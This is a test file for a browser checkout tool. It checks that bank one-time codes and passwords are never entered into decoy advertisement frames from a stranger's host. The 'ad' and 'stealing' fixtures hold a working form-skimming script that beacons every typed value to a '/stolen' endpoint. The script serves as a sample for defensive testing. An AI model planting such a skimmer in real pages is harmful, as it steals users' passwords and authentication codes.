import { beforeAll, describe, expect, it } from "vitest";
import type { BrowserPool } from "../../src/index.ts";
import { giving, goodCard } from "../purchase/support/ada.ts";
import { buyFromPages } from "../purchase/support/buy-from-pages.ts";
import { addressFields, productAndBasket } from "../purchase/support/page-shop.ts";
import { sharedPool } from "../support/shared-pool.ts";
import { frameOf, openFrames, stolen } from "./support/stranger.ts";

let pool: BrowserPool;
beforeAll(async () => {
  pool = await sharedPool();
});

/** A page that asks for a code, as a bank's does. What is typed into the advertisement's is sent to its host at once. */
const bank = `<h1>Your bank</h1><form action="/passed"><label>One-time code <input name="code" autocomplete="one-time-code"></label><button>Submit code</button></form>`;
const ad = `<label>One-time code <input name="code" autocomplete="one-time-code"></label><script>
  addEventListener('input', ({ target }) => navigator.sendBeacon('/stolen', new URLSearchParams({ what: target.value })));</script>`;

interface Attack {
  /** Stands on the page beside the form. */
  beside?: string;
  /** Runs in the page once the order was pressed. */
  onPress: string;
  payment?: string;
}

const openBank = `const frame = document.createElement('iframe'); frame.height = 300; frame.width = 400;
  frame.src = '//bank.localhost:' + location.port + '/bank'; document.body.append(frame);
  await new Promise((resolve) => addEventListener('message', resolve, { once: true }));`;

const byCard = `<label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
    <label>CVC <input name="cvc"></label>`;

function buy({ beside = "", onPress, payment = byCard }: Attack) {
  const checkout = `<h1>Checkout</h1><form method="post" action="/order">${addressFields}
    <fieldset><legend>Delivery</legend><label><input type="radio" name="ship" value="post" checked> Post, free</label></fieldset>
    <h2>Payment</h2>${payment}<p>Total $80.00</p><button>Place order</button></form>${beside}${openFrames}<script>
    document.forms[0].addEventListener('submit', async (event) => { event.preventDefault(); ${onPress} event.target.submit(); });</script>`;
  return buyFromPages(
    pool,
    {
      ...productAndBasket,
      "/checkout": checkout,
      "/bank": bank,
      "/ad": ad,
      "/stolen": "{}",
      "/nesting": `<iframe id="inner" height="200"></iframe><script>setTimeout(() => { inner.src = '//more-ads.localhost:' + location.port + '/ad'; }, 1500);</script>`,
      "/waiting": `<p>Win a prize</p><script>setInterval(async () => { if ((await (await fetch('/pressed')).json()).is) location = '/ad'; }, 100);</script>`,
      "/pressed": ({ all }) => JSON.stringify({ is: "pressed" in all }),
      "/press": "{}",
      "/passed": `<script>parent.postMessage('passed', '*');</script>`,
    },
    {
      answers: {
        card: [giving(goodCard)],
        otp: [{ code: "845219" }],
        payment_method: [{ payment_method: "invoice" }],
      },
      privateHosts: ["bank.localhost", "ads.localhost", "more-ads.localhost"],
      timing: { outcomeMs: 9_000 },
    },
  );
}

describe.concurrent("a code for the bank", () => {
  it("goes into the frame that the order's press has opened, and the question says no more than its host", async () => {
    const { outcome, host, shop } = await buy({ onPress: openBank });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(shop.orders).toMatchObject([{ code: "845219" }]);
    const message = host.questions.find(({ key }) => key === "otp")?.message;
    expect(message).toContain("bank.localhost asks for a one-time code");
    expect(message).not.toMatch(/bank has sent/);
    expect(host.steps.find(({ code }) => code === "code_entered")).toMatchObject({
      facts: { host: "bank.localhost" },
    });
  });

  it("goes to the bank beside an advertisement that asks for one as well", async () => {
    const { outcome, host, shop } = await buy({ beside: frameOf("ads.localhost"), onPress: openBank });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(host.questions.find(({ key }) => key === "otp")?.message).toContain("bank.localhost asks");
    expect(stolen(shop)).toEqual([]);
  });

  it.each([
    ["that stood on the page before", { beside: frameOf("ads.localhost") }],
    ["that asks once the order was pressed", { beside: frameOf("ads.localhost", { path: "/waiting" }) }],
    ["that opens another one inside itself", { beside: frameOf("ads.localhost", { path: "/nesting" }) }],
  ])("goes to no frame %s", async (_which, { beside }) => {
    const { host, shop } = await buy({
      beside,
      onPress: "await fetch('/press?pressed=1'); await new Promise((resolve) => setTimeout(resolve, 3000));",
    });

    expect(host.questions.map(({ key }) => key)).not.toContain("otp");
    expect(stolen(shop)).toEqual([]);
    expect(shop.orders).toHaveLength(1);
  });
});

it("goes to no frame that comes after the press where no card was given", async () => {
  const { host, shop } = await buy({
    payment: `<label><input type="radio" name="pay" value="invoice" checked> Invoice</label>`,
    onPress: `document.body.insertAdjacentHTML('beforeend', '<iframe height="250" src="//ads.localhost:' + location.port + '/ad"></iframe>');
      await new Promise((resolve) => setTimeout(resolve, 3000));`,
  });

  expect(host.questions.map(({ key }) => key)).toEqual(["payment_method"]);
  expect(stolen(shop)).toEqual([]);
  expect(shop.orders).toHaveLength(1);
});

describe.concurrent("a password", () => {
  const wall = (framed: string) => `<h1>Sign in</h1>${framed}${openFrames}`;
  const signIn = `<form method="post" action="/account"><label>E-mail <input name="user" type="email"></label><label>Password <input name="password" type="password"></label><button>Sign in</button></form>`;
  const stealing = `${signIn}<script>addEventListener('input', ({ target }) => navigator.sendBeacon('/stolen', new URLSearchParams({ what: target.value })));</script>`;

  it.each([
    ["beside the shop's own sign-in", `${frameOf("ads.localhost", { path: "/steal" })}${signIn}`, true],
    ["in place of the shop's own sign-in", frameOf("ads.localhost", { path: "/steal" }), false],
  ])("goes to no frame of a stranger %s", async (_where, page, isBought) => {
    const checkout = `<h1>Checkout</h1><form method="post" action="/order">${addressFields}<p>Total $80.00</p><button>Place order</button></form>`;
    const { shop, host } = await buyFromPages(
      pool,
      {
        ...productAndBasket,
        "/checkout": ({ all }) => ("password" in all ? checkout : wall(page)),
        "/account": "to /checkout",
        "/steal": stealing,
        "/stolen": "{}",
      },
      {
        answers: {
          credentials: [{ username: "ada@example.com", password: "correct horse" }],
          payment_method: [{ payment_method: "as_offered" }],
        },
        privateHosts: ["ads.localhost"],
        timing: { timeoutMs: isBought ? 60_000 : 9_000 },
      },
    ).catch((error: Error) => ({
      shop: { visits: [], sent: {}, orders: [], address: "", close: async () => undefined },
      host: { questions: [], error },
    }));

    expect(stolen(shop)).toEqual([]);
    expect(shop.orders).toHaveLength(isBought ? 1 : 0);
    if (!isBought) expect(host.questions).toEqual([]);
  });
});
